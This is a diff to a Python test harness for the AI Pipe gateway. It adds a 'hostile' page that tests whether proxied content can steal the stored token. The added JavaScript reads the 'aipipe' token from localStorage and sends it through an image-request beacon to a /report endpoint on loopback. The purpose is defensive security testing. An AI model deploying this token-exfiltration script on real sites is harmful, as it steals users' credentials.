@@ -73,6 +73,34 @@ class AppPage(tornado.web.RequestHandler):
         self.finish("<!doctype html><title>blank</title>" if self.request.path == "/blank.html" else self.html)
 
 
+# A script that reads AI Pipe's stored token from whatever origin it runs on and reports it to the app server
+HOSTILE_SCRIPT = """(() => {
+  let v;
+  try { v = localStorage.getItem("aipipe") || "nothing"; } catch (e) { v = "refused: " + e.name; }
+  document.title = "read: " + v;
+  new Image().src = "REPORT?v=" + encodeURIComponent(v);
+})()"""
+
+
+class HostilePage(tornado.web.RequestHandler):
+    """/hostile/{html,plain,untyped}: a page running HOSTILE_SCRIPT, as HTML, as text/plain or with no type;
+    /report records what such a script sent."""
+
+    def initialize(self, reports: list) -> None:
+        self.reports = reports
+
+    def get(self, what: str) -> None:
+        if what == "report":
+            self.reports.append(self.get_query_argument("v"))
+            self.finish("")
+            return
+        script = HOSTILE_SCRIPT.replace("REPORT", f"http://127.0.0.1:{self.request.host.rsplit(':', 1)[1]}/report")
+        self.set_header("Content-Type", {"html": "text/html; charset=utf-8", "plain": "text/plain"}.get(what, ""))
+        if what == "untyped":
+            self.clear_header("Content-Type")
+        self.finish(f"<!doctype html><title>hostile</title><h1>hostile</h1><script>{script}</script>")
+
+
 class LiveServers:
     """Start with `with LiveServers(tmp_dir) as live:`; `live.run(coro)` runs a coroutine on the servers' loop."""
 
@@ -81,6 +109,7 @@ class LiveServers:
         self.fake = FakeState()
         self.google = {"fetches": 0}
         self.app_requests: list[str] = []
+        self.reports: list[str] = []  # what HOSTILE_SCRIPT managed to send
         self._ready = threading.Event()
         self._error: BaseException | None = None
         self._servers: list = []
@@ -98,6 +127,7 @@ class LiveServers:
         data = base_config(upstream, f"sqlite:///{self.tmp_dir}/aipipe.db")
         data["auth"] = {**data["auth"], "google_client_id": CLIENT_ID, "google_certs_url": self.google["url"],
                         "redirect_origins": ["http://localhost:*"]}
+        data["proxy"] = {"allow_private": True}  # /proxy may fetch the app server's pages on loopback
         config = build_config(data, ENV)
         self.store = await open_store(config.get("storage.url"))
         self.gateway = Gateway(config, self.store)
@@ -105,7 +135,9 @@ class LiveServers:
         gw_port = self._listen(make_app(self.gateway))
         self.url = f"http://127.0.0.1:{gw_port}"
         html = README_SNIPPET.replace("https://aipipe.org", self.url)
-        app_port = self._listen(tornado.web.Application([(r"/.*", AppPage, {"html": html, "seen": self.app_requests})]))
+        app_port = self._listen(tornado.web.Application([
+            (r"/(?:hostile/)?(html|plain|untyped|report)", HostilePage, {"reports": self.reports}),
+            (r"/.*", AppPage, {"html": html, "seen": self.app_requests})]))
         self.app_port = app_port
 
     async def _stop(self) -> None:
